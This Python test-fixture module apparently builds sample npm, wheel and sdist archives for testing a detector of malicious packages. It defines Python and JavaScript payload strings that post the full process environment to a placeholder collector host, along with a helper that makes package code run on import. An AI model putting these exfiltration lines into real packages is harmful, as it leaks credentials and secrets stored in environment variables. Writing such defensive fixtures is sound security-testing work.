"""One case: files of a small package, and how they become an archive."""

import base64
import json
from collections.abc import Mapping
from dataclasses import dataclass

from tests.builders import tgz, zipped

MARK = "print('inert marker')"
JS_MARK = "console.log('inert marker')"
HOST = "https://collector.pratique-evasion.invalid"


@dataclass(frozen=True)
class Case:
    """`files` of a package; `kind` is npm, wheel or sdist."""

    id: str
    kind: str
    files: Mapping[str, bytes | str]


def imported(id_: str, code: str, **more: bytes | str) -> Case:
    """A wheel whose package runs code when it is imported; two underscores in the name of another file are its dot."""
    files = {f"parcel/{name.replace('__', '.')}": data for name, data in more.items()}
    return Case(id_, "wheel", {"parcel/__init__.py": code, **files})


def archive(case: Case) -> tuple[str, bytes]:
    """The file name and bytes of a case's artifact."""
    if case.kind == "npm":
        return "sample-1.0.0.tgz", tgz({"package.json": package(), **case.files})
    if case.kind == "wheel":
        metadata = "Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n"
        return "sample-1.0.0-py3-none-any.whl", zipped(
            {
                "sample-1.0.0.dist-info/METADATA": metadata,
                "sample-1.0.0.dist-info/top_level.txt": "sample\n",
                **case.files,
            }
        )
    files = {"PKG-INFO": "Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n", **case.files}
    return "sample-1.0.0.tar.gz", tgz(files, root="sample-1.0.0")


def package(**fields: object) -> str:
    """A package.json."""
    return json.dumps({"name": "sample", "version": "1.0.0", "main": "index.js", **fields}, indent=2)


def b64(text: str) -> str:
    """Base64 of a text."""
    return base64.b64encode(text.encode()).decode()


PY_PAYLOAD = (
    "import os, urllib.request\n"
    f"urllib.request.urlopen('{HOST}/in', data=repr(dict(os.environ)).encode())\n"
    f"{MARK}\n"
)
"""What a Python attack would run: the environment is posted to a name that cannot exist."""
JS_PAYLOAD = (
    f"require('https').request('{HOST}/in', {{method: 'POST'}}).end(JSON.stringify(process.env));{JS_MARK};"
)
"""The same for node."""

SETUP = "from setuptools import setup\nsetup(name='sample', version='1.0.0', packages=['sample'])\n"
